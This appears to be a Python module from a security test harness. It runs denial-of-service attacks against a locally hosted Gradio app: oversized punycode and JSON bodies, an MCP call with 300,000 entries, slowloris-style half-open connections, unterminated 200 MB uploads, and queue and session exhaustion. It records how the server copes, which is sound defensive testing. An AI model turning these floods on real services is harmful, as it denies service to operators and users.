"""Points 3 to 5: bodies whose parsing grows with the square, connections without an end, greed."""

from __future__ import annotations

import json
import resource
import select
import socket
import time
from collections.abc import Callable, Iterable
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress

from . import files
from .attack import attack
from .client import Field, Refused

PUNYCODE = 500_000  # bytes
LABEL = 3.0  # MB, where the attack is repeated
BODY = 31_000_000
BODIES, HEADS, CALLS, SESSIONS = 30, 1_010, 110, 63
UPLOAD_FIELD = 200_000_000
MULTIPART = "multipart/form-data; boundary=cut"


def _field(name: str, data: bytes) -> bytes:
    head = f'--cut\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'
    return head.encode() + data + b"\r\n--cut--\r\n"


@attack(3, "a form of 0.5 MB, said to be in punycode, to /login and as an upload", load=True)
def punycode_form(field: Field) -> None:
    visitor, body = field.visitor(), _field("username", files.punycode(PUNYCODE))
    for path in ("/login", "/gradio_api/upload"):
        visitor.ask("POST", path, content=body, headers={"Content-Type": f"{MULTIPART}; charset=punycode"})


@attack(3, "an MCP call with 0.9 MB of {} for files", load=True)
def mcp_errors(field: Field) -> None:
    called = {"name": "index", "arguments": {"files": [{}] * 300_000}}
    asked = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": called}
    body = json.dumps(asked, separators=(",", ":")).encode()
    kinds = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"}
    answer = field.visitor().ask("POST", "/gradio_api/mcp", content=body, headers=kinds)
    field.note(bytes=len(body), answer_bytes=len(answer.content), told=answer.text[:160])


@attack(3, "queries.jsonl with a line of 18 MB")
def long_label(field: Field) -> None:
    _labels(field, 18)


@attack(3, "queries.jsonl with a line of 3 MB", load=True)
def label(field: Field) -> None:
    _labels(field, LABEL)


def _labels(field: Field, megabytes: float) -> None:
    queries, qrels = files.labels(megabytes)
    tab = field.tab()
    given = [tab.upload("queries.jsonl", queries), tab.upload("qrels.tsv", qrels)]
    field.note(bytes=len(queries))
    tab.fire("labels", "upload", {"files": given})


def _hold(field: Field, sockets: Iterable[socket.socket], seconds: float) -> None:
    """Keep connections open, then note how many of them the server has ended."""
    held = list(sockets)
    field.note(connections=len(held))
    field.hold(seconds)
    poll = select.poll()
    for each in held:
        poll.register(each, select.POLLIN | select.POLLHUP)
    ended = len(poll.poll(0))  # an answer, or an end
    field.note(ended_by_the_server=ended)


def _head(field: Field, path: str, length: int, kind: str) -> bytes:
    host = f"{field.server.host}:{field.server.port}"
    return (
        f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: {kind}\r\nContent-Length: {length}\r\n"
        "Accept: application/json, text/event-stream\r\n\r\n"
    ).encode()


@attack(4, "30 posts of 31 MB that lack their last byte", load=True)
def idle_posts(field: Field) -> None:
    head, body = _head(field, "/gradio_api/mcp", BODY, "application/json"), b" " * (BODY - 1)
    with ExitStack() as stack:
        held = []
        for _ in range(BODIES):
            with suppress(OSError):
                held.append(stack.enter_context(field.socket()))
                held[-1].sendall(head + body)
        _hold(field, held, 10)


@attack(4, "an upload with a field of 200 MB that does not end", load=True)
def idle_field(field: Field) -> None:
    begin = _field("note", b"").removesuffix(b"\r\n--cut--\r\n")
    head = _head(field, "/gradio_api/upload", UPLOAD_FIELD + 1_000, MULTIPART) + begin
    with field.socket() as held:
        sent = 0
        with suppress(OSError):
            held.sendall(head)
            while sent < UPLOAD_FIELD:
                held.sendall(b"a" * 1_000_000)
                sent += 1_000_000
        field.note(bytes=sent)
        _hold(field, [held], 10)


@attack(4, "1,010 connections with half a head", load=True)
def half_heads(field: Field) -> None:
    _raise_descriptors()
    with ExitStack() as stack:
        held = []
        for _ in range(HEADS):
            with suppress(OSError):
                held.append(stack.enter_context(field.socket()))
                held[-1].sendall(b"GET / HTTP/1.1\r\nHost: a")
        _hold(field, held, 20)


def _raise_descriptors() -> None:
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(4_096, hard), hard))


@attack(5, "a PDF of less than 4 kB as query picture, two at a time", load=True)
def pdf_as_picture(field: Field) -> None:
    visitor = field.visitor()

    def search(_: int) -> None:
        data = files.slow_pdf()
        given = visitor.upload("picture.pdf", data)
        field.note(bytes=len(data))
        visitor.call("search", "a pattern", "16x64", 3, "", given)

    _each(search, 2)


@attack(5, "110 calls put into the queue", load=True)
def many_calls(field: Field) -> None:
    visitor = field.visitor()
    given = visitor.upload("dense.pdf", files.dense_pdf())
    taken = refused = 0
    for _ in range(CALLS):
        try:
            visitor.start("index", [[given], ""])
            taken += 1
        except Refused as error:
            refused += 1
            field.note(told=str(error)[:160])
        field.note(taken=taken, refused=refused)
    newcomer = field.visitor("127.0.0.120")
    field.note(newcomer=_told(lambda: newcomer.call("new_session")["session"] and "let in"))
    field.hold(10)


@attack(5, "63 sessions at once, and then a newcomer", load=True)
def many_sessions(field: Field) -> None:
    visitor, opened = field.visitor(), []
    newcomer = field.visitor("127.0.0.120")
    try:
        for _ in range(SESSIONS):
            opened.append(visitor.call("new_session")["session"])
    except Refused as error:
        field.note(told=str(error)[:160])
    field.note(opened=len(opened))
    others = []
    for _ in range(3):  # one place may be left
        others.append(_told(lambda: newcomer.call("new_session")["session"] and "let in"))
    field.note(newcomers=others)


def _told(step: Callable[[], object]) -> str:
    try:
        return str(step())
    except Refused as error:
        return str(error)[:160]


@attack(5, "three dense pages, and another visitor's small file after them", load=True)
def dense_pages(field: Field) -> None:
    visitor, data = field.visitor(), files.dense_pdf()
    field.note(bytes=len(data))
    visitor.start("index", [[visitor.upload("dense.pdf", data)], ""])
    field.hold(1)
    other = field.visitor("127.0.0.121")
    given = other.upload("small.pdf", files.text_pdf("a small page of another visitor"))
    began = time.monotonic()
    try:
        other.call("index", [given], "")
    finally:
        field.note(small_file_of_another_s=round(time.monotonic() - began, 1))


def _each(step: Callable[[int], object], count: int) -> None:
    """Run the step in so many threads; the first refusal is told."""
    with ThreadPoolExecutor(count) as pool:
        list(pool.map(step, range(count)))
